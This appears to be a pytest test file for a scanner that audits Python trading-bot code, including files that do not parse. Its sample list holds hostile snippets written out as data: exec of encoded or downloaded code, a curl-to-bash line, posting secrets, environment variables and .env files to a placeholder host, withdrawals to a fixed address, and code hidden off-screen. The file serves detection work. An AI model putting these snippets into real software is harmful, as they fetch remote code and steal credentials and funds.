"""Python that does not parse is judged as far as it can be, and unanswered all the same."""

import time

import pytest

from ringfence.audit.code.broken import read

ADDRESS = "0x" + "5bD1e3" * 6 + "aF01"

JUDGED = [
    ("decoded-code", "import base64\nexec(base64.b64decode('aGk='))\n"),
    ("decoded-code", "import base64, zlib\ntext = zlib.decompress(base64.b64decode(held))\nexec text\n"),
    ("remote-code", "import requests as r\ncode = r.get('https://a.invalid').text\nexec(code)\n"),
    ("remote-code", "from urllib.request import urlopen as u\nexec(u('https://a.invalid').read())\n"),
    ("remote-shell", "import os, requests\nos.system(requests.get('https://a.invalid').text)\n"),
    ("downloaded-program", "import os\nos.system('curl -s https://a.invalid/x | bash')\n"),
    (
        "credential-sent",
        "import requests\nk = config['exchange']['secret']\nrequests.post('https://c.invalid', json={'k': k})\n",
    ),
    ("environment-sent", "import os, requests\nrequests.post('https://c.invalid', json=dict(os.environ))\n"),
    ("secret-file-sent", "import requests\nrequests.post('https://c.invalid', data=open('.env').read())\n"),
    ("withdraw-call", "exchange.withdraw('USDT', 5, where)\n"),
    ("fixed-address", f"to = '{ADDRESS}'\nexchange.withdraw('ETH', 5, to)\n"),
    ("off-screen", "x = 1;" + " " * 150 + "import helper; helper.go()\n"),
    ("reordered-text", "x = 'user\u202e'\n"),
]
QUIET = [
    "import requests\nrequests.get('https://api.binance.com/api/v3/account', headers={'X-MBX-APIKEY': api_key})\n",
    "import hmac, requests\ns = hmac.new(secret, m).hexdigest()\nrequests.get('https://x.invalid', params={'s': s})\n",
    "import os, requests\nrequests.post(os.environ['HOOK'], json={'text': 'started'})\n",
    "exchange.fetch_withdrawals('USDT')\n",
    "exec('a = 1')\n",
]


@pytest.mark.parametrize(("rule", "text"), JUDGED)
def test_what_can_be_judged_is_judged_and_the_rest_unanswered(rule: str, text: str) -> None:
    reading = read("bot/strategy.py", ("print 'old'\n" + text).encode())
    assert "code/" + rule in [found.rule for found in reading.findings]
    assert [str(one.place) for one in reading.unanswered] == ["bot/strategy.py"]


@pytest.mark.parametrize("text", QUIET)
def test_ordinary_python_that_does_not_parse_is_unanswered_alone(text: str) -> None:
    reading = read("bot.py", ("print 'old'\n" + text).encode())
    assert (reading.findings, len(reading.unanswered)) == ((), 1)


@pytest.mark.parametrize(
    "data",
    [b"(" * 500_000, b"print 'x'\nexec(a)\na=a+b\n" * 10_000, b"\xff\xfe\x00" * 1000, b"", b"a" * (5 * 1024 * 1024)],
    ids=["nested", "circular", "binary", "empty", "large"],
)
def test_a_file_made_to_break_readers_is_unanswered_in_bounded_time(data: bytes) -> None:
    started = time.process_time()
    assert len(read("bot.py", data).unanswered) == 1
    assert time.process_time() - started < 30.0  # anything quadratic would take hours
